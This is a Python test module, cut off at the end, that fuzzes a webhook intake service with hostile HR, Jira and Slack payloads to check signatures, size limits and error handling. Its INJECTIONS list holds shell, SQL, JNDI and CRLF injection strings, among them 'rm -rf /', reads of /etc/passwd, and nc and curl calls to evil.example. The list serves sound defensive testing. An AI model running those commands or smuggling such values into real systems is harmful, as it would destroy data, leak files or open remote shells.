"""Hostile input at the front door (issue 8): property-based, in-process, no servers.

1. **schemathesis** against the intake's own ``/openapi.json`` (which describes the raw-body
   routes: intake/wire.py). Every generated case (positive and negative data, every operation)
   is sent four times: as generated (unsigned, or schemathesis' guess at a signature), signed
   at a stale timestamp, and validly signed over other bytes, all three to an intake that must
   never change (every ledger table's row count and the fake launchers are compared at the
   end); and signed correctly to a second intake, so the body reaches validation. Checks: no
   5xx, documented status codes, content type and response schema. The number of requests is
   counted and asserted (≥ 10 000).
2. **hypothesis with signed bodies**: HR events and Jira webhooks carrying malformed emails,
   look-alikes (Cyrillic/Greek homoglyphs, fullwidth letters, combining marks), invisible
   characters (zero-width, bidi overrides, controls), SQL/shell/template/log-injection strings,
   CRLF, huge strings, wrong types and nested junk → a 422 naming the field (never a 5xx, a
   stack trace, a raw control character or the secret), nothing written. Look-alike *letters*
   are accepted as written and the answer warns (the HR door's design: intake/hooks.py).
   Stale signatures → 401; bodies over 64 KiB (honest, lying Content-Length, chunked) → 413;
   valid events → accepted exactly once.
3. The access-request ticket parser (the Jira path's text): a hostile line gets a problem of
   its own line, echoed with invisible characters spelled out.
"""

from __future__ import annotations

import asyncio
import hashlib
import hmac
import itertools
import json
import os
import string
import time
import unicodedata
import uuid
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest
import schemathesis
from fastapi import FastAPI
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from schemathesis import GenerationMode
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_schema_conformance,
    status_code_conformance,
)
from sqlalchemy import func, inspect, select, table

from approvals.policy import load_policy
from approvals.services import Services, open_settings_ledger
from cli.approvals_cmd import from_slack
from cli.approvals_cmd import sign as sign_slack
from connectors.settings import SANDBOX_ONLY_CREDENTIALS, SANDBOX_SLACK_TEAM_ID, Settings
from domain.access_request import KEYS, SHOWN, AccessRequestError, parse_access_request
from domain.identity import ChatMember
from domain.models import IdpUser
from domain.records import ApprovalRequest
from intake.app import create_intake
from intake.hooks import sign_hr
from intake.hr_vendors import personio_headers, sign_bamboohr, sign_hibob, sign_merge
from intake.jira_hook import sign_jira
from intake.wire import MAX_BODY, read_capped
from ledger.approvals import create_approval, get_approval
from tests.conftest import serve

HR_SECRET = "hostile-hr-secret-5f1c"
JIRA_SECRET = "hostile-jira-secret-9a7e"
SLACK_SECRET = "hostile-slack-secret-3d2b"
SECRETS = (HR_SECRET, JIRA_SECRET, SLACK_SECRET)
NOW = datetime(2025, 3, 3, 12, 0, tzinfo=UTC)
T = int(NOW.timestamp())
SLACK_USER = "U0SOFIA"
APPROVAL = "apr-hostile"
PLAN_HASH = "c" * 64

# One budget for every hypothesis test here: no example database (CI is fresh anyway), no
# deadline (a shared 2-core machine), and the health checks that flag big inputs off (the
# big inputs are the point). In CI (``CI`` set by .ci/run) the examples are derandomized, so a
# merge is never blocked by an example no earlier run saw; elsewhere every run explores anew.
FAST = settings(
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
    max_examples=150,
    derandomize=bool(os.environ.get("CI")),
)


# --- the intake under test -----------------------------------------------------------------


@dataclass
class Recorder:
    """A launcher recording what it was asked to start."""

    launched: list[dict[str, Any]] = field(default_factory=list)

    def __call__(self, params: dict[str, Any]) -> str:
        self.launched.append(dict(params))
        return f"run-{len(self.launched)}"


@dataclass
class FakeMessenger:
    """The Slack client as the intake uses it: one known person; message updates recorded."""

    updates: list[Any] = field(default_factory=list)

    def email_of(self, user_id: str) -> str | None:
        return "sofia.lead@acme.com" if user_id == SLACK_USER else None

    def member(self, user_id: str) -> ChatMember | None:
        email = self.email_of(user_id)
        return ChatMember(user_id, SANDBOX_SLACK_TEAM_ID, email) if email else None

    def update(self, ref: Any, text: str, blocks: Any = None) -> None:
        self.updates.append((ref, text))


class _AnyVendor(str):
    """Equal to every vendor's name: one fake HR API stands in for each vendor's."""

    def __eq__(self, other: object) -> bool:
        return True

    def __ne__(self, other: object) -> bool:
        return False

    __hash__ = str.__hash__


class FakeHr:
    """The HR system's API as the vendor adapters read it: nobody is known (a signed event
    that reaches the read is answered 422, a clear refusal)."""

    vendor = _AnyVendor("any")

    def employee(self, employee_id: str) -> None:
        return None


@dataclass
class FakeDirectory:
    """The IdP as a click's check uses it: the one known person, active."""

    def find_user(self, email: str) -> IdpUser | None:
        if email != "sofia.lead@acme.com":
            return None
        return IdpUser(id="u1", user_name=email, email=email, emails=(email,))


@dataclass
class Front:
    """An intake with every route, a ledger of its own, fake launchers and a fixed clock."""

    svc: Services
    app: FastAPI
    client: TestClient
    launchers: dict[str, Recorder]

    def counts(self) -> dict[str, int]:
        """Rows of every ledger table: what "nothing changed" is checked against."""
        engine = self.svc.ledger.engine
        with engine.connect() as c:
            return {
                name: c.execute(select(func.count()).select_from(table(name))).scalar_one()
                for name in inspect(engine).get_table_names()
            }

    def launched(self) -> int:
        return sum(len(r.launched) for r in self.launchers.values())

    def post(self, path: str, body: bytes, headers: dict[str, str]) -> httpx.Response:
        return self.client.post(path, content=body, headers=headers)

    def hr(self, event: Any, *, t: int = T, secret: str = HR_SECRET) -> httpx.Response:
        body = event if isinstance(event, bytes) else json.dumps(event).encode()
        return self.post("/hooks/hr", body, sign_hr(secret, body, t))

    def jira(self, hook: Any, **headers: str) -> httpx.Response:
        body = hook if isinstance(hook, bytes) else json.dumps(hook).encode()
        return self.post("/hooks/jira", body, {**sign_jira(JIRA_SECRET, body), **headers})

    def slack(self, body: bytes, *, t: int = T) -> httpx.Response:
        return self.post("/slack/interactions", body, sign_slack(SLACK_SECRET, body, t))


def make_front(tmp: Path) -> Front:
    settings_ = Settings(
        ledger_url=f"sqlite:///{tmp / 'ledger.db'}",
        home=tmp,
        hr_webhook_secret=HR_SECRET,
        jira_webhook_secret=JIRA_SECRET,
        slack_signing_secret=SLACK_SECRET,
    )
    svc = Services(
        settings=settings_,
        ledger=open_settings_ledger(settings_),
        policy=load_policy(),
        messenger=FakeMessenger(),  # type: ignore[arg-type]
        idp=FakeDirectory(),  # type: ignore[arg-type]
        hr=FakeHr(),
        clock=lambda: NOW,
    )
    create_approval(
        svc.ledger,
        ApprovalRequest(
            id=APPROVAL,
            runbook="offboard",
            subject="dana.sole@acme.com",
            requester="hr.bot@acme.com",
            plan_hash=PLAN_HASH,
            rule="termination",
            required=[["sofia.lead@acme.com"]],
            created_at=NOW,
            expires_at=NOW + timedelta(hours=24),
        ),
    )
    recs = {"hr": Recorder(), "jira": Recorder(), "extend": Recorder()}
    app = create_intake(
        svc,
        launcher=recs["hr"],
        onboard_launcher=recs["jira"],
        extend_launcher=recs["extend"],
        wall_clock=lambda: float(T),
    )
    return Front(svc, app, TestClient(app), recs)


@pytest.fixture(scope="module")
def front(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Front]:
    f = make_front(tmp_path_factory.mktemp("front"))
    with f.client:  # one event loop for the module, not one per request
        yield f
    f.svc.ledger.dispose()


@pytest.fixture(scope="module")
def untouched(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Front]:
    """An intake that only ever gets unsigned, forged, stale or oversized requests."""
    f = make_front(tmp_path_factory.mktemp("untouched"))
    before = f.counts()
    with f.client:
        yield f
    assert f.counts() == before, "a request without a valid signature changed the ledger"
    assert f.launched() == 0, "a request without a valid signature started a run"
    assert get_approval(f.svc.ledger, APPROVAL).decisions == []
    f.svc.ledger.dispose()


def assert_clear_refusal(r: httpx.Response, *, status: int | None = None) -> dict[str, Any]:
    """A refusal in the intake's one shape: words, no trace, no raw control character, no
    secret; ``status`` when given."""
    assert r.status_code < 500, r.text[:500]
    if status is not None:
        assert r.status_code == status, r.text[:500]
    assert r.headers["content-type"].startswith("application/json")
    out = r.json()
    assert out["ok"] is False and isinstance(out["error"], str) and out["error"], out
    text = r.text
    assert "Traceback" not in text and 'File "' not in text
    assert not any(s in text for s in SECRETS)
    shown = out["error"] + "".join(f["field"] + f["message"] for f in out.get("fields") or [])
    assert not [c for c in shown if unicodedata.category(c).startswith("C")], out
    assert len(text) < 20_000
    return out  # type: ignore[no-any-return]


def named(out: dict[str, Any], path: str) -> bool:
    """The refusal names ``path`` (or a field under it)."""
    return any(f["field"] == path or f["field"].startswith(path + ".") for f in out["fields"])


# --- hostile values ------------------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE inbound_events;--",
    '" OR "1"="1',
    "1; SELECT pg_sleep(10)",
    "$(rm -rf /)",
    "`id`",
    "; cat /etc/passwd",
    "| nc evil.example 4444",
    "&& curl evil.example",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "../../etc/passwd",
    "%00",
    "%0d%0aSet-Cookie: x=1",
    "ok\r\nINFO handover.intake forged log line",
    "ok\nERROR forged",
    "\x1b[2J\x1b[H",
    "\x00",
    "<!channel> @here",
    "<https://evil.example|click here>",
    "*bold* ~strike~",
    "\\u0000",
]
# Each holds something no plain email, event id, ticket key or Jira key may hold.
_PLAIN = set(string.ascii_letters + string.digits + "._+-'")
assert all(set(s) - _PLAIN for s in INJECTIONS)

INVISIBLE = [
    "\u200b",  # zero-width space
    "\u200c",
    "\u200d",  # zero-width joiner
    "\u2060",
    "\ufeff",
    "\u00ad",  # soft hyphen
    "\u202e",  # right-to-left override
    "\u202d",
    "\u2066",  # isolates
    "\u2069",
    "\U000e0041",  # tag character
    "\x00",
    "\x07",
    "\x1b",
    "\x7f",
    "\r\n",
    "\t",
]
# Letters that look like Latin ones: Cyrillic, Greek, fullwidth (all lower-case: emails are).
HOMOGLYPHS = {
    "a": "\u0430\u03b1\uff41",
    "c": "\u0441\u03f2\uff43",
    "e": "\u0435\u03b5\uff45",
    "i": "\u0456\u03b9\uff49",
    "o": "\u043e\u03bf\uff4f",
    "p": "\u0440\u03c1\uff50",
    "s": "\u0455\uff53",
    "x": "\u0445\u03c7\uff58",
    "y": "\u0443\uff59",
    "n": "\u0578\uff4e",
}
COMBINING = "\u0301\u0308\u0336\u0327\u20dd"

EMPLOYEE = "dana.sole@acme.com"
MANAGER = "sofia.lead@acme.com"


def inner_insert(value: str, what: str, at: int) -> str:
    """``what`` inside ``value`` (never at an end, where trimming could remove it)."""
    i = 1 + at % (len(value) - 1)
    return value[:i] + what + value[i:]


@st.composite
def look_alike(draw: st.DrawFn, email: str) -> str:
    """``email`` with some Latin letters swapped for look-alikes or given combining marks."""
    spots = [i for i, c in enumerate(email) if c in HOMOGLYPHS]
    chosen = draw(st.lists(st.sampled_from(spots), min_size=1, max_size=4, unique=True))
    out = list(email)
    for i in chosen:
        if draw(st.booleans()):
            out[i] = draw(st.sampled_from(HOMOGLYPHS[email[i]]))
        else:
            out[i] = email[i] + draw(st.sampled_from(COMBINING))
    return "".join(out)


@st.composite
def bad_email(draw: st.DrawFn, email: str) -> str:
    """An address that is not a plain email: injections, invisible characters, specials,
    fullwidth @ and dots, no @, two @, huge."""
    local, _, domain = email.partition("@")
    inj = draw(st.sampled_from(INJECTIONS))
    return draw(
        st.sampled_from(
            [
                f"{inj}@{domain}",
                f"{local}@{inj}",
                f"{local}{inj}@{domain}",
                inner_insert(email, draw(st.sampled_from(INVISIBLE)), draw(st.integers(0, 99))),
                email.replace("@", "\uff20"),  # fullwidth @
                f"{local}@{domain.replace('.', chr(0xFF0E))}",  # fullwidth dots
                email.replace("@", ""),
                f"{local}@@{domain}",
                f"{local}@{domain}@evil.example",
                f'"{local}"@{domain}',
                f"{local}@[127.0.0.1]",
                f"{local}@{domain},eve@evil.example",
                f"{local}@{domain}\r\nBcc: eve@evil.example",
                "x" * draw(st.integers(321, 20_000)) + f"@{domain}",
                f"{local}@" + "a" * 64 + ".com",
                f".{local}@{domain}",
                f"{local}..x@{domain}",
                f"{local}@-{domain}",
            ]
        )
    )


json_leaf = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=30),
)
# Nested junk: no key named "email" (a dict with a valid one would be a valid person).
junk = st.recursive(
    json_leaf,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(st.text(max_size=8).filter(lambda k: k != "email"), inner, max_size=4),
    ),
    max_leaves=12,
)


def not_a(*kinds: type) -> st.SearchStrategy[Any]:
    """Junk of none of ``kinds`` (in JSON a boolean is no number, and a number no boolean)."""

    def wrong(v: Any) -> bool:
        if isinstance(v, bool):
            return bool not in kinds
        return not isinstance(v, kinds)

    return junk.filter(wrong)


def hr_event(**over: Any) -> dict[str, Any]:
    ev: dict[str, Any] = {
        "event_id": _event_id(),
        "type": "employee.terminated",
        "employee": {"email": EMPLOYEE, "name": "Dana Sole"},
        "manager": {"email": MANAGER},
        "ticket": "IT-42",
    }
    ev.update(over)
    return ev


# --- 1. schemathesis against /openapi.json ------------------------------------------------

CHECKS = [
    not_a_server_error,
    status_code_conformance,
    content_type_conformance,
    response_schema_conformance,
]
# The HR vendors' secrets: the sandbox's published ones (the tests run in sandbox mode).
VENDOR = {
    k: v for k, v in SANDBOX_ONLY_CREDENTIALS.items() if k.startswith("hr_") and "api" not in k
}
SIGNATURES = {
    "/hooks/hr": lambda body, t: sign_hr(HR_SECRET, body, t),
    "/hooks/jira": lambda body, _t: sign_jira(JIRA_SECRET, body),
    "/slack/interactions": lambda body, t: sign_slack(SLACK_SECRET, body, t),
    "/hooks/hr/hibob": lambda body, _t: sign_hibob(VENDOR["hr_hibob_secret"], body),
    "/hooks/hr/bamboohr": lambda body, t: sign_bamboohr(VENDOR["hr_bamboohr_secret"], body, t),
    "/hooks/hr/personio": lambda _body, _t: personio_headers(VENDOR["hr_personio_token"]),
    "/hooks/hr/merge": lambda body, _t: sign_merge(VENDOR["hr_merge_key"], body),
}
# What signs no time is "stale" when signed with another secret (Jira and the vendors but
# BambooHR); Personio signs no bytes either, so a tampered body is not refused there.
NO_TIME = {"/hooks/jira", "/hooks/hr/hibob", "/hooks/hr/personio", "/hooks/hr/merge"}
OTHER_SECRET = {
    "/hooks/jira": lambda body: sign_jira("not-the-secret", body),
    "/hooks/hr/hibob": lambda body: sign_hibob("not-the-secret", body),
    "/hooks/hr/personio": lambda body: personio_headers("not-the-secret"),
    "/hooks/hr/merge": lambda body: sign_merge("not-the-secret", body),
}
# Generated cases per operation and mode; each is sent four times (see the module docstring).
CASES = {
    "/hooks/hr": 420,
    "/hooks/jira": 420,
    "/slack/interactions": 420,
    "/hooks/hr/hibob": 60,
    "/hooks/hr/bamboohr": 60,
    "/hooks/hr/personio": 60,
    "/hooks/hr/merge": 60,
}
MIN_REQUESTS = 10_000


def serialized(case: Any) -> bytes:
    """The bytes we sign and send for a generated case's body (JSON, or a form for Slack).

    Negative generation may put raw bytes anywhere: they are sent as they are.
    """
    body = case.body
    if type(body).__name__ == "NotSet":
        return b""
    if isinstance(body, bytes):
        return body

    def text(v: Any) -> str | bytes:
        return v if isinstance(v, str | bytes) else json.dumps(v, default=_latin1)

    if case.media_type == "application/x-www-form-urlencoded" and isinstance(body, dict):
        return urlencode({text(k): text(v) for k, v in body.items()}).encode()
    out = text(body)
    return out if isinstance(out, bytes) else out.encode()


def _latin1(o: Any) -> str:
    if isinstance(o, bytes):
        return o.decode("latin-1")
    raise TypeError(type(o).__name__)


def test_the_openapi_document_is_valid_and_describes_the_bodies(front: Front) -> None:
    doc = front.client.get("/openapi.json").json()
    schema = schemathesis.openapi.from_asgi("/openapi.json", front.app)
    schema.validate()  # against the OpenAPI 3.1 meta-schema; raises when invalid
    for path, media in (
        ("/hooks/hr", "application/json"),
        ("/hooks/jira", "application/json"),
        ("/slack/interactions", "application/x-www-form-urlencoded"),
    ):
        op = doc["paths"][path]["post"]
        body = op["requestBody"]["content"][media]["schema"]
        Draft202012Validator.check_schema(body)
        assert body["required"] and body["properties"]
        assert {p["name"] for p in op["parameters"]} <= {
            "X-Handover-Signature",
            "X-Hub-Signature",
            "X-Slack-Request-Timestamp",
            "X-Slack-Signature",
        }
        assert {"401", "413"} <= set(op["responses"])
    hr = doc["paths"]["/hooks/hr"]["post"]["requestBody"]["content"]["application/json"]
    assert hr["schema"]["properties"]["security_risk"]["type"] == "boolean"
    assert "$ref" not in json.dumps(hr)  # self-contained (intake/wire.py inline_schema)


@pytest.mark.slow
def test_schemathesis_no_5xx_and_nothing_changes_without_a_valid_signature(
    front: Front, untouched: Front
) -> None:
    schema = schemathesis.openapi.from_asgi("/openapi.json", untouched.app)
    sent: Counter[tuple[str, str, str, int]] = Counter()
    before = untouched.counts()

    def run(op: Any, mode: GenerationMode, n: int) -> None:
        sign = SIGNATURES.get(op.path)

        @settings(FAST, max_examples=n)
        @given(case=op.as_strategy(generation_mode=mode))
        def one(case: Any) -> None:
            # As generated: no signature, or schemathesis' own guess at one.
            r = case.call()
            case.validate_response(r, checks=CHECKS)
            sent[(op.path, mode.value, "as generated", r.status_code)] += 1
            if sign is None:
                assert r.status_code == 200
                return
            assert r.status_code in (401, 413), (r.status_code, r.text[:300])
            body = serialized(case)
            kind = {"Content-Type": case.media_type}

            def refused(how: str, body: bytes, headers: dict[str, str]) -> None:
                r = untouched.post(op.path, body, {**headers, **kind})
                assert_clear_refusal(r, status=401)  # the Refusal schema, checked by hand
                sent[(op.path, mode.value, how, r.status_code)] += 1

            # Signed six minutes ago (what signs no time: signed with another secret).
            if op.path in NO_TIME:
                refused("stale", body, OTHER_SECRET[op.path](body))
            else:
                refused("stale", body, sign(body, T - 360))
            # A valid signature of other bytes: the HMAC covers every byte.
            if op.path != "/hooks/hr/personio":
                refused("tampered", body + b" ", sign(body, T))
            # Signed: the body reaches validation; a clear answer, never a 5xx. Slack stamps
            # every click (a trigger id): so do we, or a body drawn twice is a replay (401).
            if op.path == "/slack/interactions":
                body += f"&trigger_id={sum(sent.values())}".encode()
            r = front.post(op.path, body, {**sign(body, T), **kind})
            case.validate_response(r, checks=CHECKS)
            if r.status_code >= 400:
                assert_clear_refusal(r)
            sent[(op.path, mode.value, "signed", r.status_code)] += 1

        one()

    for result in schema.get_all_operations():
        op = result.ok()
        if op.path not in CASES:
            run(op, GenerationMode.POSITIVE, 1)  # /healthz: nothing to generate
            continue
        for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
            run(op, mode, CASES[op.path])

    total = sum(sent.values())
    by = Counter[str]()
    for (path, _mode, how, status), n in sent.items():
        by[f"{path} {how} {status}"] += n
    print(f"schemathesis: {total} requests", dict(sorted(by.items())))
    assert total >= MIN_REQUESTS, total
    # Nothing without a valid signature wrote anything or started anything.
    assert untouched.counts() == before and untouched.launched() == 0
    # Every route was reached signed and answered at validation, not only at the door.
    for path in CASES:
        assert any(p == path and how == "signed" and s != 401 for p, _m, how, s in sent), path


# --- 2. hypothesis, HR events ------------------------------------------------------------


HR_FIELDS: dict[str, st.SearchStrategy[Any]] = {
    "event_id": st.one_of(
        st.sampled_from(INJECTIONS),
        st.text(min_size=129, max_size=5000),
        not_a(str),
        st.sampled_from(INVISIBLE).map(lambda c: f"evt{c}1"),
        st.just("evt-\uff11"),  # fullwidth digit
    ),
    "type": st.one_of(
        st.sampled_from(INJECTIONS),
        st.sampled_from(["Employee.Terminated", "employee.terminated ", "employee.hired"]),
        st.just("employee.t\u0435rminated"),  # Cyrillic e
        not_a(str),
    ),
    "employee": st.one_of(not_a(dict), st.just({}), st.just({"name": "Dana"})),
    "employee.email": st.one_of(bad_email(EMPLOYEE), not_a(str)),
    "manager": not_a(dict, str).filter(lambda v: v is not None),
    "manager.email": st.one_of(bad_email(MANAGER), not_a(str).filter(lambda v: v is not None)),
    "effective_date": st.one_of(
        st.sampled_from(INJECTIONS),
        st.sampled_from(["tomorrow", "2025-02-30", "2025-03-04T09:00:00", "2025-13-01"]),
        st.just("\uff12\uff10\uff12\uff15-\uff10\uff13-\uff11\uff10"),  # fullwidth digits
        not_a(str).filter(lambda v: v is not None),
    ),
    "ticket": st.one_of(
        st.sampled_from(INJECTIONS),
        st.sampled_from(["it-42", "IT-\u0664\u0662", "\u0406T-42", "IT-42\n", "IT-4\uff12"]),
        st.text(min_size=65, max_size=2000),
        not_a(str).filter(lambda v: v is not None),
    ),
    "keep_projects": st.one_of(
        st.lists(st.sampled_from(INVISIBLE).map(lambda c: f"Prod{c}uction"), min_size=1),
        st.lists(st.text(min_size=201, max_size=400), min_size=1, max_size=3),
        st.lists(st.just("x"), min_size=51, max_size=60),
        not_a(list).filter(lambda v: v is not None),
    ),
    "security_risk": st.one_of(
        st.sampled_from(["true", "yes", 1, 0, "false", None, [], {}]),
        st.sampled_from(INJECTIONS),
    ),
}


@FAST
@given(target=st.sampled_from(sorted(HR_FIELDS)), data=st.data())
def test_hostile_hr_fields_are_refused_naming_the_field(
    untouched: Front, target: str, data: st.DataObject
) -> None:
    value = data.draw(HR_FIELDS[target], label=target)
    top, _, sub = target.partition(".")
    ev = hr_event(type="role.changed" if top == "keep_projects" else "employee.terminated")
    if sub:
        ev[top] = {**ev[top], sub: value}
    else:
        ev[top] = value
    body = json.dumps(ev).encode()
    r = untouched.hr(body)
    if len(body) > MAX_BODY:
        assert_clear_refusal(r, status=413)
        return
    out = assert_clear_refusal(r, status=422)
    assert named(out, top if top in ("employee", "manager") else target), (target, out)
    assert f"{out['fields'][0]['field']}: " in out["error"]


@FAST
@given(email=look_alike(EMPLOYEE), manager=st.none() | look_alike(MANAGER))
def test_look_alike_emails_are_accepted_as_written_and_warned(
    front: Front, email: str, manager: str | None
) -> None:
    """The HR door's design: a look-alike letter is a letter; the run matches exactly (it never
    touches dana.sole@acme.com for d\u0430na.sole@acme.com), and the answer names every
    non-ASCII character so that the sender sees what it sent."""
    before = len(front.launchers["hr"].launched)
    ev = hr_event(employee={"email": email}, manager={"email": manager} if manager else None)
    r = front.hr(ev)
    assert r.status_code == 202, r.text
    out = r.json()
    params = front.launchers["hr"].launched[-1]
    assert len(front.launchers["hr"].launched) == before + 1
    assert params["email"] == email.lower() != EMPLOYEE
    warned = " ".join(out["warnings"])
    for c in {c for c in email if not c.isascii()}:
        assert f"U+{ord(c):04X}" in warned, (email, warned)
    assert "employee.email" in warned and "exactly as written" in warned
    assert ("manager.email" in warned) == (manager is not None)
    assert not [c for c in warned if unicodedata.category(c).startswith("C")]


@FAST
@given(
    offset=st.one_of(st.integers(301, 10**10), st.integers(-T, -301)),
    security_risk=st.booleans(),
)
def test_stale_or_future_signatures_change_nothing(
    untouched: Front, offset: int, security_risk: bool
) -> None:
    ev = hr_event(security_risk=security_risk)
    out = assert_clear_refusal(untouched.hr(ev, t=T + offset), status=401)
    assert "5-minute window" in out["error"]
    click = slack_click(approve_value())
    out = assert_clear_refusal(untouched.slack(click, t=T + offset), status=401)
    assert "5-minute window" in out["error"]


_EVENT_IDS = itertools.count(1)
_RUN = uuid.uuid4().hex[:8]


def _event_id() -> str:
    """A fresh event id; a counter, not randomness, inside strategies (hypothesis asks so)."""
    return f"evt-{_RUN}-{next(_EVENT_IDS)}"


@st.composite
def valid_hr_event(draw: st.DrawFn) -> dict[str, Any]:
    typ = draw(st.sampled_from(["employee.terminated", "contract.ended", "role.changed"]))
    local = st.from_regex(r"[a-z][a-z0-9]{0,8}(\.[a-z][a-z0-9]{0,8})?", fullmatch=True)
    domain = st.sampled_from(["acme.com", "example.org", "corp.acme.co.uk"])
    employee = f"{draw(local)}@{draw(domain)}"
    ev: dict[str, Any] = {
        "event_id": _event_id(),
        "type": typ,
        "employee": {"email": draw(st.sampled_from([employee, employee.upper()]))},
    }
    # Managers at another domain: never the employee (a 422 of its own).
    manager = draw(st.none() | local.map(lambda a: f"{a}@managers.example"))
    if manager is not None:
        ev["manager"] = draw(st.sampled_from([manager, {"email": manager}]))
    when = draw(
        st.none()
        | st.dates(date(2000, 1, 1), date(2030, 12, 31)).map(date.isoformat)
        | st.datetimes(datetime(2000, 1, 1), datetime(2030, 12, 31)).map(
            lambda d: d.replace(microsecond=0).isoformat() + "Z"
        )
    )
    if when is not None:
        ev["effective_date"] = when
    if draw(st.booleans()):
        ev["ticket"] = f"IT-{draw(st.integers(1, 10**6))}"
    if typ == "role.changed" and draw(st.booleans()):
        ev["keep_projects"] = draw(st.lists(st.sampled_from(["Production", "Staging"]), max_size=2))
    if typ != "role.changed" and draw(st.booleans()):
        ev["security_risk"] = draw(st.booleans())
    return ev


@FAST
@given(ev=valid_hr_event())
def test_valid_events_are_accepted_exactly_once(front: Front, ev: dict[str, Any]) -> None:
    rec = front.launchers["hr"]
    before, rows = len(rec.launched), front.counts()["inbound_events"]
    r = front.hr(ev)
    assert r.status_code == 202, r.text
    out = r.json()
    risk = ev.get("security_risk", False)
    when = ev.get("effective_date")
    at = (
        datetime.fromisoformat(when.replace("Z", "+00:00"))
        if when and "T" in when
        else datetime.fromisoformat(f"{when}T00:00:00+00:00")
        if when
        else None
    )
    later = at is not None and at > NOW and not risk
    assert out["status"] == ("scheduled" if later else "started"), (ev, out)
    assert len(rec.launched) == before + (0 if later else 1)
    if not later:
        params = rec.launched[-1]
        assert params["email"] == ev["employee"]["email"].lower()
        assert params["emergency"] is risk
        reasons = {"employee.terminated": "termination", "contract.ended": "contract_end"}
        reason = "security_incident" if risk else reasons.get(ev["type"], "role_change")
        assert params["reason"] == reason
    # Redelivered, re-serialised, with a delivery counter: the same event, nothing new.
    again = front.hr(dict(reversed({**ev, "attempt": 2}.items())))
    assert again.status_code == 200 and again.json()["duplicate"] is True, again.text
    assert again.json().get("run") == out.get("run")
    assert len(rec.launched) == before + (0 if later else 1)
    assert front.counts()["inbound_events"] == rows + 1


# --- oversized bodies ----------------------------------------------------------------------


def _chunks(body: bytes, size: int) -> Iterator[bytes]:
    for i in range(0, len(body), size):
        yield body[i : i + size]


@settings(FAST, max_examples=40)
@given(
    path=st.sampled_from(["/hooks/hr", "/hooks/jira", "/slack/interactions"]),
    size=st.integers(MAX_BODY + 1, 400_000),
    how=st.sampled_from(["honest", "lying", "chunked", "unsigned"]),
    chunk=st.integers(1_000, 70_000),
)
def test_oversized_bodies_are_refused_and_change_nothing(
    untouched: Front, path: str, size: int, how: str, chunk: int
) -> None:
    # A valid, signed delivery, padded past the limit (the signature covers the padding).
    ev = hr_event()
    ev["padding"] = "x" * (size - len(json.dumps(ev)) - 15)
    body = json.dumps(ev).encode()
    assert len(body) > MAX_BODY
    headers = {} if how == "unsigned" else dict(SIGNATURES[path](body, T))
    content: bytes | Iterator[bytes] = body
    if how == "lying":
        headers["Content-Length"] = "100"  # says small, sends 64 KiB and more
    elif how == "chunked":
        content = _chunks(body, chunk)  # no Content-Length at all
    r = untouched.client.post(path, content=content, headers=headers)
    out = assert_clear_refusal(r, status=413)
    assert "too large" in out["error"]


def test_a_body_of_exactly_64_kib_is_taken(front: Front) -> None:
    ev = hr_event()
    ev["padding"] = ""
    ev["padding"] = "x" * (MAX_BODY - len(json.dumps(ev).encode()))
    body = json.dumps(ev).encode()
    assert len(body) == MAX_BODY
    assert front.hr(body).status_code == 202
    assert_clear_refusal(front.hr(body + b" "), status=413)


def test_a_chunked_body_over_a_real_socket_is_refused(untouched: Front) -> None:
    """Over loopback (uvicorn, as deployed), a chunked body without Content-Length."""
    live = serve(untouched.app)
    try:
        body = json.dumps(hr_event(padding="x" * 300_000)).encode()
        r = httpx.post(
            f"{live.url}/hooks/hr",
            content=_chunks(body, 8192),
            headers=sign_hr(HR_SECRET, body, T),
            timeout=10,
        )
        assert r.request.headers.get("transfer-encoding") == "chunked"
        assert_clear_refusal(r, status=413)
    finally:
        live.stop()


def test_the_reader_stops_at_the_limit_of_a_stream_that_never_ends() -> None:
    """A chunked sender that never stops is cut off after the limit and one chunk."""
    from starlette.requests import Request

    pulled = 0

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        pulled += 1
        return {"type": "http.request", "body": b"x" * 16_384, "more_body": True}

    request = Request({"type": "http", "method": "POST", "headers": []}, receive)
    assert asyncio.run(read_capped(request, MAX_BODY)) is None
    assert pulled == MAX_BODY // 16_384 + 1


# --- Jira webhooks ---------------------------------------------------------------------------


def jira_hook(key: Any = "ACC-12", **over: Any) -> dict[str, Any]:
    hook: dict[str, Any] = {
        "webhookEvent": "jira:issue_created",
        "timestamp": 1_741_003_200_000,
        "issue": {"key": key, "fields": {"issuetype": {"name": "Access Request"}}},
    }
    hook.update(over)
    return hook


BAD_KEYS = st.one_of(
    st.sampled_from(INJECTIONS),
    st.sampled_from(
        [
            "acc-12",  # lower case
            "ACC-\uff11\uff12",  # fullwidth digits
            "ACC-\u0661\u0662",  # Arabic-Indic digits
            "\u0410\u0421\u0421-12",  # Cyrillic A, S, S
            "ACC-12\n",
            "ACC-0",
            "ACC12",
            "-12",
            "ACC-" + "9" * 11,
        ]
    ),
    st.sampled_from(INVISIBLE).map(lambda c: f"ACC-1{c}2"),
    st.text(min_size=65, max_size=3000),
    not_a(str),
)


@FAST
@given(
    where=st.sampled_from(["issue.key", "webhookEvent", "timestamp", "issue", "issuetype"]),
    data=st.data(),
)
def test_hostile_jira_webhooks_start_nothing(untouched: Front, where: str, data: Any) -> None:
    if where == "issue.key":
        hook = jira_hook(data.draw(BAD_KEYS))
    elif where == "webhookEvent":
        bad = st.sampled_from(INJECTIONS) | st.text(min_size=129, max_size=500) | not_a(str)
        hook = jira_hook(webhookEvent=data.draw(bad))
    elif where == "timestamp":
        bad = st.sampled_from(INJECTIONS) | st.sampled_from([-1, 10**16, 1.5, "1\nX"])
